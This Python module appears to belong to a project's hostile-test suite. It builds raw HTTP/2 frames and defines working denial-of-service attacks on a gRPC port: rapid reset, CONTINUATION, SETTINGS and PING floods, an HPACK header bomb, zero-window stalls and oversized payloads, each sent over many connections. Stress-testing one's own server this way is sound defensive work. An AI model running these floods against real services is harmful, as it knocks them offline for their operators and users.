"""Attacks on HTTP/2, on the port for clients of gRPC."""

import asyncio
import struct
from collections.abc import Awaitable, Callable
from typing import Any

from hpack import Encoder

from lockstep.protocol.grpc import messages as pb
from lockstep.protocol.grpc.wire import encode_message
from lockstep.testing.peer import Peer
from scripts.hostile.run import Attack
from scripts.hostile.target import Target

__all__ = ["GRPC_ATTACKS"]

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
ENDS, ENDS_HEADERS = 1, 4
TABLE_SIZE, WINDOW_SIZE = 1, 4
CONNECTIONS = 20
FRAMES = 20_000
CALLS = 1900
SETTINGS_OF_A_FRAME = 2700
LITE_TOPICS = 1_400_000
CLOSED_S = 30.0
_SERVICE = "/apache.rocketmq.v2.MessagingService/"


def frame(kind: int, stream_id: int = 0, body: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream_id) + body


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings()


def headers(method: str = "QueryRoute", *more: tuple[str, str]) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", _SERVICE + method)]
    return Encoder().encode([*fields, ("content-type", "application/grpc"), ("x-mq-client-id", "c"), *more])


def opening(number: int, method: str = "QueryRoute") -> bytes:
    return frame(HEADERS, 2 * number + 1, headers(method), ENDS_HEADERS)


def call(number: int, method: str, request: Any, more: bytes = b"") -> bytes:
    data, stream_id = encode_message(request.SerializeToString() + more), 2 * number + 1
    parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
    frames = [frame(DATA, stream_id, part, ENDS * (part is parts[-1])) for part in parts]
    return opening(number, method) + b"".join(frames)


def route(number: int) -> bytes:
    return call(number, "QueryRoute", pb.QueryRouteRequest(topic=pb.Resource(name="TBW102")))


def bomb() -> bytes:
    """A long value that is named again and again, a byte each time."""
    encoder = Encoder()
    first = encoder.encode([("x-mq-a", "a" * 3000)])
    again = encoder.encode([("x-mq-a", "a" * 3000)])
    return frame(HEADERS, 1, headers() + first + again * 10_000, ENDS_HEADERS)


async def _is_closed(peer: Peer, data: bytes) -> bool:
    try:
        async with asyncio.timeout(CLOSED_S):
            await peer.send(data)
            while not await peer.is_closed():
                pass
    except TimeoutError:
        return False
    return True


def flood(make: Callable[[], bytes]) -> Callable[[Target], Awaitable[str]]:
    """The same bytes on each of many connections."""

    async def run(target: Target) -> str:
        data = HELLO + make()
        peers = [await target.connect(grpc=True) for _ in range(CONNECTIONS)]
        closed = sum(await asyncio.gather(*(_is_closed(peer, data) for peer in peers)))
        return f"{closed} of {CONNECTIONS} are closed"

    return run


async def unread(target: Target) -> str:
    """Answers of calls are not read."""
    peers = [await target.connect(grpc=True) for _ in range(CONNECTIONS)]
    for peer in peers:
        peer.write(HELLO + settings((WINDOW_SIZE, 2**31 - 1)) + b"".join(map(route, range(5 * CALLS))))
    await asyncio.sleep(CLOSED_S)
    return f"{CONNECTIONS * 5 * CALLS:,} calls were sent"


def _attack(name: str, sends: str, make: Callable[[], bytes], *options: str) -> Attack:
    return _raw(name, f"{CONNECTIONS} connections, each {sends}", flood(make), *options)


def _raw(name: str, sends: str, run: Callable[[Target], Awaitable[str]], *options: str) -> Attack:
    return Attack(f"grpc-{name}", 22, f"HTTP/2: {sends}", run, 60.0, ("--grpc-port", "0", *options))


GRPC_ATTACKS = (
    _attack("rapid-reset", f"{FRAMES:,} calls that are reset at once",
            lambda: b"".join(opening(n) + frame(RESET, 2 * n + 1, bytes(4)) for n in range(FRAMES))),
    _attack("continuations", f"headers and {FRAMES:,} empty frames of more",
            lambda: frame(HEADERS, 1, headers()) + frame(CONTINUATION, 1) * FRAMES),
    _attack("settings", f"{CALLS:,} open calls, whose windows go to 0 and back {FRAMES:,} times",
            lambda: b"".join(map(opening, range(CALLS)))
            + (settings((WINDOW_SIZE, 0), (TABLE_SIZE, 0)) + settings((WINDOW_SIZE, 65_535))) * FRAMES),
    _attack("unknown-settings", "65,000 settings that nobody knows",
            lambda: b"".join(settings(*((code, 1) for code in range(first, first + SETTINGS_OF_A_FRAME)))
                             for first in range(10, 62_000, SETTINGS_OF_A_FRAME))),
    _attack("pings", f"{FRAMES:,} pings", lambda: frame(PING, 0, bytes(8)) * FRAMES),
    _attack("zero-windows", f"{CALLS:,} calls whose answers have no window",
            lambda: settings((WINDOW_SIZE, 0)) + b"".join(map(route, range(CALLS)))),
    _attack("half-calls", f"{CALLS:,} calls without a request (deadline 5 s)",
            lambda: b"".join(map(opening, range(CALLS))), "-D", "frame_timeout_ms=5000"),
    _attack("header-bomb", "10,000 headers of 3,000 bytes in 13 kB", bomb),
    _attack("lite-set", "a set of lite topics of 4 MiB",
            lambda: call(0, "SyncLiteSubscription", pb.SyncLiteSubscriptionRequest(), b"\x22\x01t" * LITE_TOPICS)),
    _raw("unread", f"{CONNECTIONS} connections, each {5 * CALLS:,} calls whose answers are not read", unread),
)  # fmt: skip
